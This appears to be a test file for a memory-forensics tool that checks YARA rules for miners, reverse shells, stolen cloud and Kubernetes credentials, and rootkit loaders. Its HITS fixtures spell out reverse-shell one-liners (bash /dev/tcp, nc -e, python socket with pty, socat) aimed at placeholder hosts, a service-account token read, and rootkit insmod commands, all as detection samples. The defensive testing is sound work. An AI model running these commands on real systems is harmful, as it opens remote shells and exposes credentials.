# SPDX-License-Identifier: Apache-2.0
"""The starter rules hit what they are for, and nothing on images of nodes where it is not."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable

import numpy as np
import pytest
import yara

from memir.gaps import Gaps
from memir.hunt.hexdump import masked
from memir.hunt.rule_text import read_source
from memir.hunt.rules import STARTER, load_rules
from memir.hunt.scan import Scan
from memir.hunt.units import Unit
from memir.kube.ram import RamSource
from tests.hunt.hunting import ram, run

RULES = STARTER
JWT = b"eyJhbGciOiJSUzI1NiIsImtpZCI6" + b"Z" * 40 + b".eyJhdWQiOlsi" + b"Y" * 700 + b"." + b"S" * 342


def token(pod: str) -> bytes:
    """A token as the API server makes them, but for its signature."""
    header = {"alg": "RS256", "kid": "k" * 43}
    claims = {
        "aud": ["https://kubernetes.default.svc"], "exp": 1795899999, "iat": 1764363999,
        "iss": "https://oidc.eks.eu-west-1.amazonaws.com/id/LAB", "jti": "0" * 36,
        "kubernetes.io": {"namespace": "shop", "pod": {"name": pod}}, "sub": "system:serviceaccount:shop:api",
    }  # fmt: skip
    parts = [json.dumps(part, separators=(",", ":")).encode() for part in (header, claims)]
    return b".".join([*(base64.urlsafe_b64encode(part).rstrip(b"=") for part in parts), b"S" * 342])


# made here, none of them was ever valid
HITS: dict[str, list[bytes]] = {
    "Miner_Stratum_Session": [
        b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}',
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt5"',
    ],
    "Miner_Pool_Address": [b"stratum+tcp://pool.example.org:3333", b"stratum2+ssl://eu.pool.example:443"],
    "Miner_Command_Line": [b"./kdevtmpfsi\0--donate-level\x001\0", b"x\0-a\0rx/0\0-o\0"],
    "Miner_Xmrig_Program": [b"XMRig/6.21.0\0...donate-over-proxy\0randomx\0huge-pages-jit"],
    "Reverse_Shell_Dev_Tcp": [b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", b"exec 5<>/dev/tcp/c2.example/443"],
    "Reverse_Shell_Netcat": [
        b"nc -nv 198.51.100.7 4444 -e /bin/sh", b"ncat\x00198.51.100.7\x009001\x00-e\x00sh",
        b"nc -e /bin/bash 198.51.100.7 99",
        b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 1",
    ],
    "Reverse_Shell_Script": [
        b'python3 -c "import socket,os;s=socket.socket();s.connect((\'198.51.100.7\',1));os.dup2(s.fileno(),0);',
        b"s.connect((h,p)); import pty; pty.spawn('/bin/sh')",
        b"socat exec:'bash -li',pty,stderr tcp:198.51.100.7:4444",
    ],
    "Credential_Aws_Secret_Key": [
        b"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\0",
        b"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    ],
    "Credential_Aws_Session": [b'"AccessKeyId" : "ASIAIOSFODNN7EXAMPLE"', b"AWS_SESSION_TOKEN=" + b"A" * 700 + b"=="],
    "Credential_Gcp_Service_Key": [
        b'{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\n' + b"M" * 1624
    ],
    "Credential_Azure_Client_Secret": [b"AZURE_CLIENT_SECRET=abc8Q~" + b"x" * 34],
    "Credential_Metadata_Request": [b"GET /latest/meta-data/iam/security-credentials/node-role HTTP/1.1"],
    "Kubernetes_Service_Account_Token": [JWT],
    "Kubernetes_Token_Used_From_Shell": [
        b"curl\0-k\0-H\0Authorization: Bearer " + JWT, b"kubectl get secrets --token=" + JWT,
        b"wget\0-q\0--header\0Authorization: Bearer " + JWT,
    ],
    "Kubernetes_Token_Read_From_Shell": [b"cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
    "Kubernetes_Kubeconfig_Key": [b"    client-key-data: LS0tLS1CRUdJTiBSU0E" + b"A" * 200],
    "Module_Loader_Script": [b"insmod /dev/shm/.x/rk.ko", b"insmod\0/tmp/a.ko\0", b"echo hideme >> /etc/modules"],
    "Module_Loader_Program": [
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0 vermagic=6.1.0-50-cloud-amd64 SMP preempt mod_unload \0"
        b"finit_module\0insmod failed: %s",
    ],
    "Rootkit_Words": [b"\0diamorphine_init\0", b"/reptile/reptile_cmd"],
}  # fmt: skip
BENIGN = [
    b"usage: nc [-46CDdFhklNnrStUuvZz] [-e command] [hostname] [port]",
    b"http://169.254.169.254/latest/meta-data/instance-id",
    b"AWS_SECRET_ACCESS_KEY=\0AWS_SECRET_ACCESS_KEY=${SECRET}",
    b"aws_secret_access_key = <your secret key here, 40 characters of it>",
    b"donate-level cpu-max-threads-hint randomx",
    b"/lib/modules/6.1.0-50/kernel/fs/overlayfs/overlay.ko insmod /lib/modules/x.ko init_module",
    b"Authorization: Bearer %s eyJhbGciOiJSUzI1NiIs.",
    b"/dev/tcp/host/port  redirection: bash -i; socket.socket().connect",
]
EXPECTED_ON_IMAGES = {
    "intruded": {"Miner_Pool_Address", "Kubernetes_Service_Account_Token"},
    "node-6.1": {"Miner_Pool_Address", "Kubernetes_Service_Account_Token"},
}


@pytest.fixture(scope="module")
def compiled() -> yara.Rules:
    return load_rules([RULES]).sets[0]


def names() -> list[str]:
    return sorted(rule.name for path in RULES.glob("*.yar") for rule in read_source(path.read_text()).rules)


@pytest.mark.parametrize("rule", names())
def test_each_rule_hits_its_own(compiled: yara.Rules, rule: str) -> None:
    for sample in HITS[rule]:
        assert rule in [match.rule for match in compiled.match(data=b"\0 " + sample + b" \0")], sample


def test_no_rule_hits_the_benign(compiled: yara.Rules) -> None:
    for text in BENIGN:
        assert compiled.match(data=b"\0" + text + b"\0") == []
    for rule, samples in HITS.items():
        family = rule.split("_")[0]
        for sample in samples:
            others = {match.rule.split("_")[0] for match in compiled.match(data=b"\0 " + sample + b" \0")}
            assert others == {family}


def test_every_rule_says_what_it_means(compiled: yara.Rules) -> None:
    for rule in compiled:
        assert set(rule.meta) >= {"description", "technique", "severity"} and rule.meta["technique"].startswith("T1")
        assert ("Credential" in rule.identifier or "Kubernetes" in rule.identifier) <= bool(
            {"secret", "aws", "token"} & set(rule.tags)
        )
    assert load_rules([RULES]).monotone


# the same secret as two places hold it, and another one that begins alike: what is hashed is the secret, whole
AWS, GCP = b"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE", b"-----BEGIN PRIVATE KEY-----\\n"
END = b"-----END PRIVATE KEY-----"
SAME = {
    "Kubernetes_Service_Account_Token": ([token("api"), b"x" + token("api") + b" "], token("web")),
    "Kubernetes_Token_Used_From_Shell": (
        [b"curl -H Authorization: Bearer " + JWT, b"kubectl --token " + JWT], b"kubectl --token " + JWT[:-1] + b"T",
    ),
    "Kubernetes_Kubeconfig_Key": (
        [b"client-key-data: LS0tLS1CRUdJTi" + b"A" * 900 + b"=\n",
         b"client-key-data:LS0tLS1CRUdJTi" + b"A" * 900 + b"= "],
        b"client-key-data: LS0tLS1CRUdJTi" + b"A" * 899 + b"B=\n",
    ),
    "Credential_Aws_Secret_Key": (
        [b"AWS_SECRET_ACCESS_KEY=" + AWS + b"Y\0", b"aws_secret_access_key = " + AWS + b"Y\n"],
        b"AWS_SECRET_ACCESS_KEY=" + AWS + b"Z\0",
    ),
    "Credential_Aws_Session": (
        [b"AWS_SESSION_TOKEN=" + b"I" * 600 + b"a==\0", b"AWS_SESSION_TOKEN=" + b"I" * 600 + b"a==\n"],
        b"AWS_SESSION_TOKEN=" + b"I" * 600 + b"b==",
    ),
    "Credential_Gcp_Service_Key": (
        [b'{"type": "service_account", "private_key": "' + GCP + b"M" * 1600 + b'a' + END,
         b'{"type":"service_account","id":"1","private_key":"' + GCP + b"M" * 1600 + b'a' + END],
        b'{"type": "service_account", "private_key": "' + GCP + b"M" * 1600 + b'b' + END,
    ),
    "Credential_Azure_Client_Secret": (
        [b"AZURE_CLIENT_SECRET=abc8Q~" + b"x" * 34 + b"\0", b"AZURE_CLIENT_SECRET=abc8Q~" + b"x" * 34 + b" "],
        b"AZURE_CLIENT_SECRET=abc8Q~" + b"x" * 33 + b"y",
    ),
}  # fmt: skip


def hashes(rule: str, text: bytes) -> set[str]:
    """The hashes that the hits of a rule are shown with."""
    data = b"\0 " + text + b" \0"
    memory = ram({at: data[at << 12 : (at + 1) << 12] for at in range((len(data) >> 12) + 2)})
    scan = Scan(memory, load_rules([STARTER]), Gaps())
    every = np.arange((len(data) >> 12) + 1)
    scan.scan(Unit("process", "unit", every, every.astype(np.uint64), len(every)))
    shown = [masked(hit.data, dict(hit.meta)["secret"]) for hit in scan.hits.values() if hit.rule == rule]
    return {text.partition("sha256 ")[2] for text in shown}


@pytest.mark.parametrize("rule", names())
def test_equal_hashes_are_equal_secrets(compiled: yara.Rules, rule: str) -> None:
    tags = {one.identifier: one.tags for one in compiled}[rule]
    assert ("secret" in tags) == (rule in SAME)
    if rule in SAME:
        alike, other = SAME[rule]
        first = hashes(rule, alike[0])
        assert len(first) == 1 and all(hashes(rule, one) == first for one in alike)
        assert len(hashes(rule, other)) == 1 and hashes(rule, other) != first


def test_a_token_shows_its_claims_and_never_its_signature() -> None:
    shown = masked(b"kubectl --token " + token("api-7d9"), r"eyJ[0-9A-Za-z_.-]+")
    assert '"pod":{"name":"api-7d9"}' in shown and '"alg":"RS256"' in shown
    assert "SSSS" not in shown and ".*** (" in shown


def test_on_real_images(node_of: Callable[[str], RamSource], image: str) -> None:
    found = run(node_of(image), load_rules([RULES]))
    expected = EXPECTED_ON_IMAGES.get("intruded" if image.endswith("-intruded") else image, set())
    assert {row["rule"] for row in found.rows} == expected
    for row in found.rows:  # secrets are masked
        assert "secret" not in row["tags"] or "sha256" in row["data"]
